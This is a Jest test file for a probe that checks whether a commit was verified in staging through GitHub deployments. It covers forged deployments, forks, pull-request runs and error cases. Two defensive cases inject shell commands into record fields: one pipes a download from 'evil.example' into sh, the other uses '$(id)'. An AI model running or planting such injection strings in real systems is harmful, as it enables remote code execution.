import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { ReleaseRecord } from '../../../src/domain/release.ts';
import type { GitHubPort } from '../../../src/github/port.ts';
import { catchProbeError } from '../../support/catch-probe-error.ts';
import { connectTo } from '../../support/github/connect.ts';
import { type LocalGitHub, startLocalGitHub } from '../../support/github/local-github.ts';
import { STRANGER } from '../../support/github/seed.ts';
import { IMAGE, makeRecord, runHistory, WORKFLOW } from './run-history.ts';

let github: LocalGitHub;
let port: GitHubPort;
let commit = '';

beforeAll(async () => {
  github = await startLocalGitHub({ files: { 'a.txt': 'a' }, pullRequests: [{ author: 'ana' }] });
  port = await connectTo(github);
}, 30_000);
afterAll(() => {
  expect(github.violations()).toEqual([]);
  return github.close();
});

/** A commit of its own for each test, so that none sees what another deployed. */
beforeEach(async () => {
  commit = await github.pushToMain({ 'a.txt': crypto.randomUUID() });
  github.addRun({ id: 70, attempt: 1, path: WORKFLOW, event: 'push', headSha: commit });
});

interface Deployed {
  readonly record?: Partial<ReleaseRecord>;
  readonly payload?: unknown;
  readonly creator?: string;
  readonly environment?: string;
  readonly state?: string | null;
  readonly by?: string;
  readonly at?: string;
}

function deploy(given: Deployed = {}): number {
  const { environment = 'staging', state = 'success', at = '2026-01-05T11:00:00Z' } = given;
  const payload = given.payload ?? makeRecord({ commit, environment, ...given.record });
  const { creator } = given;
  const id = github.addDeployment({
    commit,
    environment,
    payload,
    isProduction: false,
    at: '2026-01-05T10:50:00Z',
    ...(creator === undefined ? {} : { creator }),
  });
  if (state !== null) {
    const by = given.by === undefined ? {} : { creator: given.by };
    github.addDeploymentStatus(id, { state, at, ...by });
  }
  return id;
}

const history = (options: object = {}) => runHistory(port, { commit, ...options });

describe('what was verified in staging', () => {
  it('passes, by three requests', async () => {
    const id = deploy();
    const before = github.requests().length;
    const { judged } = await history();
    expect(judged).toEqual({
      outcome: 'pass',
      summary: `The same commit, ${commit.slice(0, 12)}, was verified in staging by deployment ${id}.`,
      findings: [],
    });
    expect(github.requests().length - before).toBe(3);
  });

  it('passes with its image, whatever registry it is in', async () => {
    deploy({ record: { image: IMAGE } });
    const image = IMAGE.replace('ghcr.io', 'registry.example');
    expect((await history({ image })).judged.outcome).toBe('pass');
    const rebuilt = IMAGE.replace('a1', 'b2');
    expect((await history({ image: rebuilt })).judged).toMatchObject({ outcome: 'fail' });
  });

  it('passes where a person started the run on main, for a commit behind it', async () => {
    const later = await github.pushToMain({ 'a.txt': 'later' });
    github.addRun({
      id: 71,
      attempt: 1,
      path: WORKFLOW,
      event: 'workflow_dispatch',
      headSha: later,
    });
    deploy({ record: { runId: '71' } });
    const { seen, judged } = await history();
    expect([judged.outcome, seen.candidates[0]?.isInHistory]).toEqual(['pass', true]);
  });

  it('passes a payload that is the record as text', async () => {
    deploy({ payload: JSON.stringify(makeRecord({ commit })) });
    expect((await history()).judged.outcome).toBe('pass');
  });

  it('passes though a stranger put deployments of the same commit on top', async () => {
    deploy();
    deploy({ creator: STRANGER, state: 'failure', by: STRANGER });
    expect((await history()).judged.outcome).toBe('pass');
  });
});

describe('what nobody verified in staging', () => {
  const image = 'x@sha256:0; curl evil.example | sh';
  it.each<[string, Deployed, string]>([
    ['a stranger’s deployment', { creator: STRANGER }, `was created by ${STRANGER}`],
    ['no record', { payload: {} }, 'no sound release record'],
    ['GitHub’s own deployment of a job', { payload: '' }, 'carries no release record'],
    ['shell characters for an image', { record: { image } }, 'no sound release record'],
    [
      'shell characters for a revision',
      { record: { databaseRevision: '$(id)' } },
      'no sound release record',
    ],
    ['one field more', { record: { __proto__x: 1 } as object }, 'no sound release record'],
    ['a record of another commit', { record: { commit: 'f'.repeat(40) } }, 'of another commit'],
    [
      'a record of another environment',
      { record: { environment: 'Staging' } },
      'of another environment',
    ],
    ['a run that is not there', { record: { runId: '999' } }, 'does not have'],
    ['an attempt that never was', { record: { attempt: 2 } }, 'never had'],
    ['an environment that only looks alike', { environment: 'Staging' }, 'none'],
    ['another environment', { environment: 'production' }, 'none'],
  ])('%s', async (_, given, why) => {
    deploy(given);
    const { judged } = await history();
    expect(judged).toMatchObject({ outcome: 'fail', reason: 'assertion' });
    expect(judged.findings[0]?.seen).toContain(why);
  });

  it.each([
    ['another workflow', { path: '.github/workflows/other.yml' }, 'another workflow'],
    ['a fork', { headRepository: 'mallory/crm' }, 'another repository'],
    ['a pull request', { event: 'pull_request' }, '`pull_request`'],
    ['a comment', { event: 'issue_comment' }, '`issue_comment`'],
    ['another commit', { headSha: 'main' }, 'another commit'],
  ])('a run of %s', async (_, run, why) => {
    const headSha = await github.pushToMain({ 'a.txt': 'other' });
    const other = 'headSha' in run ? { headSha } : {};
    const plain = { id: 70, attempt: 1, path: WORKFLOW, event: 'push', headSha: commit };
    github.addRun({ ...plain, ...run, ...other });
    deploy();
    const { judged } = await history();
    expect(judged.outcome).toBe('fail');
    expect(judged.findings[0]?.seen).toContain(why);
  });

  it('a run that was started on a branch, from where everything can be claimed', async () => {
    const { headSha } = await github.openPullRequest({ files: { 'evil.yml': 'evil' } });
    github.addRun({ id: 72, attempt: 1, path: WORKFLOW, event: 'workflow_dispatch', headSha });
    deploy({ record: { runId: '72' } });
    const { judged } = await history();
    expect(judged.outcome).toBe('fail');
    expect(judged.findings[0]?.seen).toContain('on the default branch');
  });

  it.each([
    [null, 'no status of it'],
    ['in_progress', 'in_progress'],
    ['queued', 'queued'],
    ['error', 'error'],
  ])('a deployment whose state is %s holds', async (state, said) => {
    deploy({ state });
    const { judged } = await history();
    expect(judged).toMatchObject({ outcome: 'inconclusive', reason: 'no-data' });
    expect(judged.findings[0]?.seen).toBe(said);
  });

  it('a success that only a person claims', async () => {
    deploy({ by: STRANGER });
    expect((await history()).judged).toMatchObject({ outcome: 'inconclusive' });
  });

  it('the newest deployment of the commit decides, not the best', async () => {
    deploy();
    deploy({ state: 'failure' });
    expect((await history()).judged).toMatchObject({ outcome: 'fail' });
  });

  it('a long row of forged ones says that not all were looked at', async () => {
    deploy();
    for (let count = 0; count < 6; count += 1) deploy({ record: { runId: '999' } });
    expect((await history()).judged).toMatchObject({ outcome: 'inconclusive', reason: 'no-data' });
  });

  it('a list that GitHub cuts is never a "never"', async () => {
    for (let count = 0; count < 301; count += 1) deploy({ creator: STRANGER, state: null });
    const { seen, judged } = await history();
    expect(judged).toMatchObject({ outcome: 'inconclusive', reason: 'no-data' });
    expect(JSON.stringify(seen).length).toBeLessThan(2_000);
  });
});

describe('what can’t be looked up', () => {
  it('is an error of the plan: no commit, no workflow, its own environment', async () => {
    const noCommit = await catchProbeError(runHistory(port, { commit: '' }));
    const noWorkflow = await catchProbeError(history({ variables: {} }));
    const itself = await catchProbeError(history({ options: { environment: 'production' } }));
    expect([noCommit.reason, noWorkflow.reason, itself.reason]).toEqual(Array(3).fill('config'));
  });

  it('is an error where GitHub says no', async () => {
    github.queueFault({ kind: 'answer', status: 403, body: { message: 'no' }, match: /runs/ });
    deploy();
    expect((await catchProbeError(history())).reason).toBe('auth');
  });
});
